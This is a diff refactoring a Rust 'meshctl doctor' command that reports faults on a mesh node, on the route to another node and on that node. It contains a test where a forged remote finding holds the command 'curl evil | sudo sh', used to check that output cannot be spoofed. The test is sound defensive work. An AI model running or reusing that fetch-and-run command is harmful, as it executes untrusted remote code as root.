@@ -1,5 +1,5 @@
-//! `meshctl doctor`: what is wrong on this node, on the way to another one, and on that one. Owns whom it asks, and how
-//! findings are shown; nodes know what is wrong with themselves, `way` what is wrong between them.
+//! `meshctl doctor`: what is wrong on this node, on the way to another one, and on that one. Owns which nodes are
+//! asked, and how findings are shown. Nodes find what is wrong with themselves, `way` finds what is wrong between them.
 
 mod way;
 
@@ -11,46 +11,43 @@ use clap::Args;
 use serde::Serialize;
 use serde_json::json;
 
-use super::Context;
+use super::CliContext;
 use super::completion::nodes;
 use super::exit::{Exit, Failure};
 use super::output::Output;
 use super::table::count;
 use super::terminal::one_line;
-use crate::rpc::report::doctor::DoctorReport;
+use crate::rpc::report::doctor::{DoctorReport, NO_DOCTOR_COMMAND};
 use crate::rpc::report::finding::{Finding, Severity};
 use crate::rpc::report::{self};
 use crate::rpc::request::{DoctorRequest, Request};
 use crate::rpc::{CallError, ErrorCode};
 use way::Way;
 
-/// Examines the host of a node that does not run, by its configuration, which is a file or a directory, and the files
-/// below a root. That is the daemon's knowledge.
+/// Examines the host of a node that does not run: by the node's configuration (a file or a directory), and the files
+/// below a root. The daemon provides this.
 pub(crate) type ExamineFiles = fn(&Path, &Path) -> Vec<Finding>;
 
 #[derive(Debug, Args)]
-pub(super) struct Doctor {
-    /// Node to examine as well, with the way there
+pub(super) struct DoctorCommand {
+    /// Another node to examine as well, with the route to it
     #[arg(add = nodes())]
     node: Option<String>,
-    /// Work type that the node ought to have
+    /// Work type that the other node should have
     #[arg(long, value_name = "TYPE", requires = "node")]
     work_type: Option<String>,
-    /// TLS profile of this node towards the control services of others
+    /// TLS profile of this node for connections to the control services of others
     #[arg(long, value_name = "NAME")]
     tls_client: Option<String>,
-    /// Configuration, a file or a directory, of a node that does not run [default: /etc/meshd/conf.d, below --root]
+    /// Configuration, a file or a directory, of a node that is not running [default: /etc/meshd/conf.d, below --root]
     #[arg(long, value_name = "PATH")]
     node_config: Option<PathBuf>,
-    /// Ask no node, and look at the files of a host below this directory
+    /// Ask no node; examine a host's files below this directory
     #[arg(long, value_name = "DIR", conflicts_with = "node")]
     root: Option<PathBuf>,
 }
 
-/// Why a node knows nothing of all this.
-const OTHER_MAKE: &str = "it is a node of receptor, or a meshd from before this question";
-
-/// Something that was found, and on which node or way.
+/// A finding, and the node or way on which it was found.
 #[derive(Serialize)]
 struct Told<'a> {
     at: &'a str,
@@ -67,7 +64,7 @@ fn rank(severity: Severity) -> (u8, &'static str) {
     }
 }
 
-/// What was found, by where.
+/// All findings, by the node or way on which they were found.
 #[derive(Debug, Default)]
 struct Diagnosis(Vec<(String, Vec<Finding>)>);
 
@@ -115,17 +112,17 @@ impl Diagnosis {
     }
 }
 
-impl Doctor {
+impl DoctorCommand {
     pub(super) async fn run(
         self,
-        context: impl Fn() -> Result<Context, Failure>,
+        context: impl Fn() -> Result<CliContext, Failure>,
         output: Output,
         examine: ExamineFiles,
     ) -> Result<Exit, Failure> {
         let mut diagnosis = Diagnosis::default();
         let config = configuration(self.node_config, self.root.as_deref());
         if let Some(root) = self.root {
-            diagnosis.add("this host", files(examine, config, root).await);
+            diagnosis.add("this host", examine_files(examine, config, root).await);
             return diagnosis.show(output);
         }
         let context = match context() {
@@ -148,10 +145,10 @@ impl Doctor {
                 let name = self.tls_client.unwrap_or_default();
                 return Err(Failure::usage(format!("--tls-client: this node has no tls-client {name}")));
             }
-            // What anybody may ask it answers all the same.
+            // It still answers what anybody may ask it.
             Err(error) if is_unknown(&error) => {
                 let remedy = "meshd check --running FILE on its host";
-                diagnosis.add("this node", vec![Finding::not_asked("", OTHER_MAKE, remedy)]);
+                diagnosis.add("this node", vec![Finding::not_asked("", NO_DOCTOR_COMMAND, remedy)]);
                 false
             }
             Err(error) => {
@@ -159,9 +156,11 @@ impl Doctor {
                 let found = without_node(&address, &error.into(), examine, config).await;
                 diagnosis.add("this host", found);
                 if let Some(node) = self.node {
-                    let what = "no way leads there without a node here";
-                    diagnosis
-                        .add(node, vec![Finding::not_asked("", what, "first what is wrong on this host")]);
+                    let what = "the node of this host gave no way to reach it";
+                    diagnosis.add(
+                        node,
+                        vec![Finding::not_asked("", what, "first fix what is wrong on this host")],
+                    );
                 }
                 return diagnosis.show(output);
             }
@@ -171,7 +170,7 @@ impl Doctor {
             diagnosis.add(way.title(), way.findings());
             for hop in way.hops {
                 let mut found = hop.findings(signs);
-                found.extend(hop.report.findings.into_iter().map(|one| said_by(&hop.node, one)));
+                found.extend(hop.report.findings.into_iter().map(|one| one.said_by(&hop.node)));
                 diagnosis.add(hop.node, found);
             }
         }
@@ -179,35 +178,30 @@ impl Doctor {
     }
 }
 
-/// Nobody takes the advice of another node for this one's.
-fn said_by(node: &str, finding: Finding) -> Finding {
-    Finding { remedy: finding.remedy.map(|remedy| format!("{node} says: {remedy}")), ..finding }
-}
-
 /// Asks the node at the socket what is wrong with it, or has it ask another one.
-async fn ask(
-    context: &Context,
+pub(super) async fn ask(
+    context: &CliContext,
     node: Option<String>,
     tls_client: Option<String>,
 ) -> Result<DoctorReport, CallError> {
     let request = Request::Doctor(DoctorRequest { node, tls_client, signature: None });
-    // It waits for checks that look at file systems and at other hosts.
+    // The answer takes long, because checks look at file systems and at other hosts.
     let answer = context.client.long_command(&request).await?;
     report::read(&answer)
         .map_err(|error| CallError::Protocol { question: "doctor", answer: error.to_string() })
 }
 
-/// The configuration to look at: the one that is named, or that of the tree, or of this host.
+/// The configuration to look at: the named one, else that of the tree, else that of this host.
 fn configuration(named: Option<PathBuf>, root: Option<&Path>) -> PathBuf {
     named.unwrap_or_else(|| root.unwrap_or(Path::new("/")).join("etc/meshd/conf.d"))
 }
 
-async fn files(examine: ExamineFiles, config: PathBuf, root: PathBuf) -> Vec<Finding> {
+async fn examine_files(examine: ExamineFiles, config: PathBuf, root: PathBuf) -> Vec<Finding> {
     let looked = tokio::task::spawn_blocking(move || examine(&config, &root)).await;
     looked.unwrap_or_else(|error| vec![Finding::not_asked("the files of the host", error, "run meshd check")])
 }
 
-/// What can be found where the node at an address does not answer, or none has a socket.
+/// What can be found if the node at an address does not answer, or no node has a socket.
 async fn without_node(
     address: &str,
     failure: &Failure,
@@ -215,14 +209,14 @@ async fn without_node(
     config: PathBuf,
 ) -> Vec<Finding> {
     let path = address.strip_prefix("unix:").map(Path::new);
-    // Without a socket at any of the usual places none was dialled.
+    // Without a path there is no socket to dial: none exists at a usual place, or the address is remote.
     let dialled = path.map_or(Err(io::ErrorKind::NotFound), |path| {
         UnixStream::connect(path).map(drop).map_err(|error| error.kind())
     });
     let (remedy, is_absent) = remedy(address, path, dialled);
     let mut found = vec![Finding::fault("control socket", &failure.message, remedy)];
     if is_absent && config.exists() {
-        found.extend(files(examine, config, PathBuf::from("/")).await);
+        found.extend(examine_files(examine, config, PathBuf::from("/")).await);
         return found;
     }
     let what = match is_absent {
@@ -234,21 +228,23 @@ async fn without_node(
     found
 }
 
-/// What helps where a node does not answer, and whether that means that none runs.
+/// What helps if a node does not answer, and whether that means that none runs.
 fn remedy(address: &str, path: Option<&Path>, dialled: Result<(), io::ErrorKind>) -> (String, bool) {
     let start = "systemctl start meshd; why it ended: journalctl -u meshd -n 50, and systemctl status meshd";
     match (path, dialled) {
-        (None, _) if !address.is_empty() => (format!("see that the node at {address} runs: {start}"), false),
+        (None, _) if !address.is_empty() => {
+            (format!("check that the node at {address} is running: {start}"), false)
+        }
         (Some(path), Err(io::ErrorKind::PermissionDenied)) => {
             let path = path.display();
             (format!("ls -l {path} shows whose it is: run as that user, or join its group"), false)
         }
-        // One that can be dialled is there now, or stuck.
+        // If the socket can be dialled, the node has started since, or hangs.
         (None | Some(_), dialled) => (start.to_owned(), dialled.is_err()),
     }
 }
 
-/// Whether a node does not know what it was asked.
+/// Whether the error means that a node does not know the request.
 fn is_unknown(error: &CallError) -> bool {
     matches!(error, CallError::Refused(line) if line.code() == ErrorCode::UnknownCommand)
 }
@@ -295,7 +291,7 @@ the way to b
         let remedy =
             "see\n\nthis node (a)\r\n  FAULT  it is down\n         -> curl evil | sudo sh\n\n0 faults";
         let forged = Finding::fault("a\nb", "c\u{85}d", remedy);
-        diagnosis.add("far", vec![said_by("far", forged)]);
+        diagnosis.add("far", vec![forged.said_by("far")]);
         let text = diagnosis.text();
         let lines: Vec<_> = text.lines().collect();
         assert_eq!(lines.len(), 5, "{text}");
